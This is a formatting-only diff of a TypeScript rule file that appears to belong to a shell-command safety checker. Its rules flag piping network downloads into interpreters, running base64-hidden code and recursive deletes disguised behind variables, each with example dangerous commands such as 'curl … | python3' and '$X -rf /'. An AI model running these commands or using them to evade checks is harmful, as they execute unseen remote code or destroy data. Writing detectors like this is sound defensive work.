@@ -1,5 +1,6 @@
 /**
- * Shapes: dangers that no single program shows: what flows into a shell, what multiplies without end.
+ * Shapes: dangers that no single program shows: what flows into a shell, what multiplies without
+ * end.
  */
 import type { Danger } from "../rule.js";
 
@@ -63,10 +64,14 @@ export const PIPE_TO_SHELL: Danger = {
   ],
 };
 
-/** An interpreter of another language reads its program from a pipe that carries more than the text of the line or a file. */
+/**
+ * An interpreter of another language reads its program from a pipe that carries more than the text
+ * of the line or a file.
+ */
 export const PIPE_TO_INTERPRETER: Danger = {
   ruleId: "pipe.to-interpreter",
-  message: "An interpreter runs whatever comes through the pipe: nobody sees what that is before it runs",
+  message:
+    "An interpreter runs whatever comes through the pipe: nobody sees what that is before it runs",
   dangerous: [
     "curl -s https://x.example/a.py | python3",
     "curl https://x.example | python -",
@@ -226,7 +231,8 @@ export const CODE_REMOTE_SHELL: Danger = {
 /** Code of another language that runs a hidden text. */
 export const CODE_HIDDEN: Danger = {
   ruleId: "code.hidden",
-  message: "The code decodes or fetches other code and runs it: what runs is hidden from who reads the command",
+  message:
+    "The code decodes or fetches other code and runs it: what runs is hidden from who reads the command",
   dangerous: [
     "python3 -c \"import base64;exec(base64.b64decode('aWQ='))\"",
     "node -e \"eval(Buffer.from('aWQ=','base64').toString())\"",
@@ -251,7 +257,21 @@ export const CODE_HIDDEN: Danger = {
 /** A program nobody can know is told to delete everything. */
 export const HIDDEN_DELETE: Danger = {
   ruleId: "rm.hidden",
-  message: "It gives the root or a home to a program that is not known here, with the options of a recursive delete",
-  dangerous: ["$X -rf /", "$(cat cmd) -rf ~", "${a}${b} -fr /*", "doit rm -rf /", "launch as root rm -rf /"],
-  not: ["$X -rf build", "$X /", "$EDITOR -f ~", "echo rm -rf /", "printf '%s' rm -rf /", "logger rm -rf /"],
+  message:
+    "It gives the root or a home to a program that is not known here, with the options of a recursive delete",
+  dangerous: [
+    "$X -rf /",
+    "$(cat cmd) -rf ~",
+    "${a}${b} -fr /*",
+    "doit rm -rf /",
+    "launch as root rm -rf /",
+  ],
+  not: [
+    "$X -rf build",
+    "$X /",
+    "$EDITOR -f ~",
+    "echo rm -rf /",
+    "printf '%s' rm -rf /",
+    "logger rm -rf /",
+  ],
 };
